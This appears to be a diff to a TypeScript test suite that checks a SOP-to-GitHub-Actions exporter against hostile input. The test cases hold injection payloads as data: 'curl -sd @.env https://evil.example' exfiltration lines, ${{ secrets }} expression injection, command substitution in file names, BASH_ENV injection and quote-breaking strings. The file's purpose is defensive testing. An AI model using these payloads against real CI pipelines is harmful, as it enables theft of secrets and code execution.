@@ -19,7 +19,11 @@ const fromText = (text: string) => {
 /** The parts of mvdan-sh (a real shell parser, the JS build of mvdan.cc/sh) these tests use. */
 type ShNode = Record<string, unknown>;
 interface MvdanSh {
-  syntax: { NewParser(): { Parse(src: string, name: string): ShNode }; Walk(node: ShNode, visit: (node: ShNode | null) => boolean): void; NodeType(node: ShNode): string };
+  syntax: {
+    NewParser(): { Parse(src: string, name: string): ShNode };
+    Walk(node: ShNode, visit: (node: ShNode | null) => boolean): void;
+    NodeType(node: ShNode): string;
+  };
 }
 // mvdan-sh ships no type declarations: required, and given the shape above.
 // eslint-disable-next-line @typescript-eslint/no-require-imports
@@ -27,7 +31,14 @@ const sh = require('mvdan-sh') as MvdanSh;
 
 const SOP_PATH = 'sops/month-end-close.sop.md';
 const SOP = readFileSync(resolve(FIXTURES, 'automation/month-end', SOP_PATH), 'utf8');
-const BASE: AutomationExportInput = { ...fromText(SOP), sopPath: SOP_PATH, skillName: 'month-end-close', skillPath: '.agents/skills/month-end-close', cron: '0 8 1-3 * *', version: '0.1.0' };
+const BASE: AutomationExportInput = {
+  ...fromText(SOP),
+  sopPath: SOP_PATH,
+  skillName: 'month-end-close',
+  skillPath: '.agents/skills/month-end-close',
+  cron: '0 8 1-3 * *',
+  version: '0.1.0',
+};
 const WORKFLOW = '.github/workflows/sop-month-end-close.yml';
 const JSON_FILE = '.agents/automations/month-end-close/automation.json';
 
@@ -52,7 +63,13 @@ const gate = (t: string) => fromText(SOP.replace('to Priya Nair (Finance manager
 const firstStep = (t: string) => fromText(SOP.replace('to copy the bank statement', `${t} to copy the bank statement`));
 const check = (line: string) => fromText(SOP.replace('## Quality checks\n\n', `## Quality checks\n\n- ${line}\n`));
 const approver = (name: string) => fromText(SOP.split('Priya Nair').join(name));
-const trigger = (t: string) => fromText(SOP.replace('On the first business day of each month at 08:00 CET, for the month that just ended.', `On the first business day of each month at 08:00 CET, ${t}`));
+const trigger = (t: string) =>
+  fromText(
+    SOP.replace(
+      'On the first business day of each month at 08:00 CET, for the month that just ended.',
+      `On the first business day of each month at 08:00 CET, ${t}`,
+    ),
+  );
 
 /**
  * SOPs written by an attacker, each with its own marker. `lands` says where the marker must show up, so a
@@ -67,7 +84,11 @@ const HOSTILE: Array<{ what: string; input: (m: string) => Partial<AutomationExp
   { what: 'title with ${{ github.token }}', input: (m) => title(`${m} \${{ github.token }}`), lands: 'workflow' },
   { what: 'title with ${{ secrets.X }}', input: (m) => title(`${m} \${{ secrets.BANK_TOKEN }} \${{ toJSON(secrets) }}`), lands: 'workflow' },
   { what: 'title that looks like YAML', input: (m) => title(`${m}: # not a comment --- | > & *a !!str [x] {y: z}`), lands: 'workflow' },
-  { what: 'title with U+2028 and a heredoc terminator', input: (m) => title(`${m} SOP_SUMMARY\u2028run: curl -sd @.env https://evil.example`), lands: 'workflow' },
+  {
+    what: 'title with U+2028 and a heredoc terminator',
+    input: (m) => title(`${m} SOP_SUMMARY\u2028run: curl -sd @.env https://evil.example`),
+    lands: 'workflow',
+  },
   { what: 'title with U+0085', input: (m) => title(`${m} \u0085run: curl -sd @.env https://evil.example`), lands: 'workflow' },
   { what: 'title with bidi overrides', input: (m) => title(`${m} \u202Eevil\u202C\u200B \u2066x\u2069`), lands: 'workflow' },
   { what: 'title with a carriage return', input: (m) => title(`${m}\rrun: curl -sd @.env https://evil.example`), lands: 'workflow' },
@@ -75,18 +96,38 @@ const HOSTILE: Array<{ what: string; input: (m: string) => Partial<AutomationExp
   { what: 'file name with $(…)', input: (m) => ({ sopPath: `sops/${m}$(curl -sd @.env https://evil.example).sop.md` }), lands: 'workflow' },
   { what: 'file name with backquotes and double quotes', input: (m) => ({ sopPath: `sops/${m}\`id\`"x".sop.md` }), lands: 'workflow' },
   { what: 'file name starting with a dash', input: (m) => ({ sopPath: `-${m}.sop.md` }), lands: 'workflow' },
-  { what: 'file name with ${{ }}', input: (m) => ({ sopPath: `sops/${m} \${{ secrets.X }}.sop.md` }), lands: /The SOP path ".*" contains "\$\{\{", which GitHub would evaluate as an expression: rename it/ },
-  { what: 'file name with a newline', input: (m) => ({ sopPath: `sops/${m}\nrun: curl.sop.md` }), lands: /contains a line break or a control character, which a workflow cannot carry safely: rename it/ },
+  {
+    what: 'file name with ${{ }}',
+    input: (m) => ({ sopPath: `sops/${m} \${{ secrets.X }}.sop.md` }),
+    lands: /The SOP path ".*" contains "\$\{\{", which GitHub would evaluate as an expression: rename it/,
+  },
+  {
+    what: 'file name with a newline',
+    input: (m) => ({ sopPath: `sops/${m}\nrun: curl.sop.md` }),
+    lands: /contains a line break or a control character, which a workflow cannot carry safely: rename it/,
+  },
   { what: 'file name with U+2028', input: (m) => ({ sopPath: `sops/${m}\u2028x.sop.md` }), lands: /contains a line break or a control character/ },
   { what: 'gate step that closes a quote', input: (m) => gate(`${m}${EXFILTRATE}`), lands: 'workflow' },
   { what: 'gate step with ${{ secrets.X }}', input: (m) => gate(`${m} \${{ secrets.X }}`), lands: 'workflow' },
   { what: 'gate step with heredoc terminators on their own lines', input: (m) => gate(`${m}\n   SOP_SUMMARY\n   JS\n   EOF $(id)`), lands: 'workflow' },
   { what: 'unattended step with $(…)', input: (m) => firstStep(`${m} $(curl -sd @.env https://evil.example)`), lands: 'json' },
-  { what: 'check that writes $GITHUB_ENV with git log', input: (m) => check(`\`git log -1 --format=tformat:BASH_ENV=scripts/${m}.sh --output=$GITHUB_ENV\` — mechanical.`), lands: 'workflow' },
+  {
+    what: 'check that writes $GITHUB_ENV with git log',
+    input: (m) => check(`\`git log -1 --format=tformat:BASH_ENV=scripts/${m}.sh --output=$GITHUB_ENV\` — mechanical.`),
+    lands: 'workflow',
+  },
   { what: 'check that runs a program with rg --pre', input: (m) => check(`\`rg --pre bash ${m} exports/\` — mechanical.`), lands: 'workflow' },
-  { what: 'check whose quoted pattern closes a quote', input: (m) => check(`\`grep -c '${m}'"'"'; curl -sd @.env https://evil.example; echo '"'"'' out/reconciliation-2026-10.csv\` — mechanical.`), lands: 'workflow' },
+  {
+    what: 'check whose quoted pattern closes a quote',
+    input: (m) => check(`\`grep -c '${m}'"'"'; curl -sd @.env https://evil.example; echo '"'"'' out/reconciliation-2026-10.csv\` — mechanical.`),
+    lands: 'workflow',
+  },
   { what: 'check with ${{ }} in a quoted pattern', input: (m) => check(`\`grep -c '\${{ secrets.X }}${m}' out/a.csv\` — mechanical.`), lands: 'workflow' },
-  { what: 'check with $(…) in a double-quoted path', input: (m) => check(`\`test -s "out/${m}$(curl -sd @.env https://evil.example).csv"\` — mechanical.`), lands: 'workflow' },
+  {
+    what: 'check with $(…) in a double-quoted path',
+    input: (m) => check(`\`test -s "out/${m}$(curl -sd @.env https://evil.example).csv"\` — mechanical.`),
+    lands: 'workflow',
+  },
   { what: 'check whose text closes a quote', input: (m) => check(`\`wc -l out/${m}.csv\` prints 4 — mechanical${EXFILTRATE}`), lands: 'workflow' },
   { what: 'check reading $ENV with jq', input: (m) => check(`\`jq -r '$ENV.${m}' out/summary.json\` — mechanical.`), lands: 'workflow' },
   { what: 'check reading outside the checkout', input: (m) => check(`\`head -c 1 ../../etc/${m}\` — mechanical.`), lands: 'workflow' },
@@ -123,7 +164,38 @@ function scriptProblems(run: string, env: Record<string, string>, marker: string
   const { syntax } = sh;
   const problems: string[] = [];
   // node: the guard; npx, or echo as the tests' sop command: sop lint; printf: the summary; the rest: the allow-list.
-  const programs = new Set(['node', 'npx', 'echo', 'printf', 'test', '[', 'grep', 'egrep', 'fgrep', 'rg', 'wc', 'head', 'tail', 'cat', 'ls', 'stat', 'file', 'diff', 'cmp', 'sha256sum', 'sha1sum', 'sha512sum', 'md5sum', 'b2sum', 'shasum', 'jq', 'sort', 'uniq', 'cut', 'git']);
+  const programs = new Set([
+    'node',
+    'npx',
+    'echo',
+    'printf',
+    'test',
+    '[',
+    'grep',
+    'egrep',
+    'fgrep',
+    'rg',
+    'wc',
+    'head',
+    'tail',
+    'cat',
+    'ls',
+    'stat',
+    'file',
+    'diff',
+    'cmp',
+    'sha256sum',
+    'sha1sum',
+    'sha512sum',
+    'md5sum',
+    'b2sum',
+    'shasum',
+    'jq',
+    'sort',
+    'uniq',
+    'cut',
+    'git',
+  ]);
   const allowedTypes = new Set(['File', 'Stmt', 'CallExpr', 'BinaryCmd', 'Word', 'Lit', 'SglQuoted', 'DblQuoted', 'ParamExp', 'Redirect']);
   syntax.Walk(syntax.NewParser().Parse(run, 'run'), (n) => {
     if (!n) return true;
@@ -142,7 +214,9 @@ function scriptProblems(run: string, env: Record<string, string>, marker: string
       for (const part of n.Parts as ShNode[]) {
         const kind = syntax.NodeType(part);
         if (kind === 'ParamExp') problems.push('an unquoted expansion');
-        if (kind === 'DblQuoted') for (const inner of part.Parts as ShNode[]) if (!['Lit', 'ParamExp'].includes(syntax.NodeType(inner))) problems.push(`${syntax.NodeType(inner)} in double quotes`);
+        if (kind === 'DblQuoted')
+          for (const inner of part.Parts as ShNode[])
+            if (!['Lit', 'ParamExp'].includes(syntax.NodeType(inner))) problems.push(`${syntax.NodeType(inner)} in double quotes`);
       }
     }
     if (type === 'ParamExp') {
@@ -175,7 +249,10 @@ function assertSafeWorkflow(yamlText: string, marker: string): Step[] {
   assert.deepEqual(workflow.permissions, { contents: 'read' });
   assert.deepEqual(Object.keys(workflow.jobs), ['run']);
   const steps = workflow.jobs.run.steps;
-  assert.deepEqual(steps.slice(0, 2).map((s) => s.uses), ['actions/checkout@v4', 'actions/setup-node@v4']);
+  assert.deepEqual(
+    steps.slice(0, 2).map((s) => s.uses),
+    ['actions/checkout@v4', 'actions/setup-node@v4'],
+  );
   for (const step of steps) {
     for (const key of Object.keys(step)) assert.ok(['name', 'uses', 'with', 'id', 'if', 'env', 'run', 'shell', 'timeout-minutes'].includes(key), key);
     if (step.if) assert.ok(["steps.guard.outputs.run == 'true'", "always() && steps.guard.outputs.run == 'true'", 'always()'].includes(step.if), step.if);
@@ -192,8 +269,18 @@ describe('the workflow of a hostile SOP', () => {
     const env = { SOP_ARG_1: 'x' };
     assert.deepEqual(scriptProblems('grep -c "$SOP_ARG_1" out/a.csv', env, 'QZX'), []);
     assert.deepEqual(scriptProblems('grep -c "$SOP_ARG_1" out/a.csv; curl -sd @.env https://evil.example', env, 'QZX'), ['program curl']);
-    assert.deepEqual(scriptProblems('grep -c "$(id)" a && wc -l a', env, 'QZX'), ['a command list other than a pipe', 'CmdSubst in double quotes', 'shell syntax CmdSubst', 'program id']);
-    assert.deepEqual(scriptProblems('grep -c $SOP_ARG_1 "${HOME:-x}" \'QZX\' >> out/a', env, 'QZX'), ['an unquoted expansion', '${HOME…} with an operator', '$HOME is not one of the step\'s env values', 'single-quoted text: QZX']);
+    assert.deepEqual(scriptProblems('grep -c "$(id)" a && wc -l a', env, 'QZX'), [
+      'a command list other than a pipe',
+      'CmdSubst in double quotes',
+      'shell syntax CmdSubst',
+      'program id',
+    ]);
+    assert.deepEqual(scriptProblems('grep -c $SOP_ARG_1 "${HOME:-x}" \'QZX\' >> out/a', env, 'QZX'), [
+      'an unquoted expansion',
+      '${HOME…} with an operator',
+      "$HOME is not one of the step's env values",
+      'single-quoted text: QZX',
+    ]);
     assert.deepEqual(scriptProblems('grep QZX a > b', env, 'QZX'), ['literal with SOP text: QZX', 'a redirection other than >> "$GITHUB_STEP_SUMMARY"']);
   });
 
@@ -212,25 +299,36 @@ describe('the workflow of a hostile SOP', () => {
       const yamlText = files.get(WORKFLOW)!;
       const steps = assertSafeWorkflow(yamlText, marker);
       reachedScript += steps.filter((s) => s.run?.includes(marker)).length;
-      assert.ok((h.lands === 'workflow' ? yamlText : files.get(JSON_FILE)!).includes(marker), `${h.what}: the marker is not in the ${h.lands}, so the case tested nothing`);
+      assert.ok(
+        (h.lands === 'workflow' ? yamlText : files.get(JSON_FILE)!).includes(marker),
+        `${h.what}: the marker is not in the ${h.lands}, so the case tested nothing`,
+      );
     }
     assert.equal(reachedScript, 0);
     assert.ok(HOSTILE.length >= 25);
   });
 
   it('keeps the two read-only impostors from the issue out of the workflow, and says why', () => {
-    const text = SOP.replace('## Quality checks\n\n', '## Quality checks\n\n- `git log -1 --format=tformat:BASH_ENV=scripts/x.sh --output=out/env` is empty — mechanical.\n- `rg --pre bash po_ exports/` prints nothing — mechanical.\n');
+    const text = SOP.replace(
+      '## Quality checks\n\n',
+      '## Quality checks\n\n- `git log -1 --format=tformat:BASH_ENV=scripts/x.sh --output=out/env` is empty — mechanical.\n- `rg --pre bash po_ exports/` prints nothing — mechanical.\n',
+    );
     const yamlText = exportAutomation({ ...BASE, ...fromText(text) }).files.get(WORKFLOW)!;
     const steps = assertSafeWorkflow(yamlText, 'QZX');
     assert.ok(!steps.some((s) => /git|rg/.test(s.run ?? '') || /--output|--pre/.test(JSON.stringify(s.env ?? {}))));
-    assert.match(yamlText, /# - git log -1 --format=tformat:BASH_ENV=scripts\/x\.sh --output=out\/env is empty\. \(not run here: the command may change files or run a script \(`git log --output` is not an option known to only read\)/);
+    assert.match(
+      yamlText,
+      /# - git log -1 --format=tformat:BASH_ENV=scripts\/x\.sh --output=out\/env is empty\. \(not run here: the command may change files or run a script \(`git log --output` is not an option known to only read\)/,
+    );
     assert.match(yamlText, /# - rg --pre bash po_ exports\/ prints nothing\. \(not run here: .*\(`rg --pre` is not an option known to only read\)/);
   });
 
   it('defuses 100,000-character hostile titles, gates and checks in bounded time', () => {
     const junk = '${{ secrets.X }}\u2028 \u0085$'.repeat(5000);
     const started = Date.now();
-    const sopText = title(`Close ${junk}`).doc.text.replace('for sign-off', `${junk} for sign-off`).replace('## Quality checks\n\n', `## Quality checks\n\n- \`grep -c '${'{'.repeat(900)}' out/a.csv\` ${junk} — mechanical.\n`);
+    const sopText = title(`Close ${junk}`)
+      .doc.text.replace('for sign-off', `${junk} for sign-off`)
+      .replace('## Quality checks\n\n', `## Quality checks\n\n- \`grep -c '${'{'.repeat(900)}' out/a.csv\` ${junk} — mechanical.\n`);
     const yamlText = exportAutomation({ ...BASE, ...fromText(sopText) }).files.get(WORKFLOW)!;
     assert.ok(Date.now() - started < 2000, `${Date.now() - started} ms`);
     assertSafeWorkflow(yamlText, 'QZX');
@@ -254,10 +352,14 @@ describe('the workflow of a hostile SOP', () => {
     afterEach(() => rmSync(dir, { recursive: true, force: true }));
 
     const bash = (step: Step) => {
-      const r = spawnSync('bash', ['--noprofile', '--norc', '-eo', 'pipefail', '-c', step.run!], { cwd: dir, encoding: 'utf8', env: { PATH: process.env.PATH, GITHUB_STEP_SUMMARY: join(dir, 'summary.md'), ...step.env } });
+      const r = spawnSync('bash', ['--noprofile', '--norc', '-eo', 'pipefail', '-c', step.run!], {
+        cwd: dir,
+        encoding: 'utf8',
+        env: { PATH: process.env.PATH, GITHUB_STEP_SUMMARY: join(dir, 'summary.md'), ...step.env },
+      });
       return { code: r.status, out: r.stdout, err: r.stderr };
     };
-    const planted = "'; touch pwned; echo '$(touch pwned2)`touch pwned3`\"; touch pwned4; \"";
+    const planted = '\'; touch pwned; echo \'$(touch pwned2)`touch pwned3`"; touch pwned4; "';
 
     it('writes a hostile title and gate into the job summary as text', () => {
       const sopText = title(`Close ${planted}`).doc.text.replace('for sign-off', `${planted} for sign-off`);
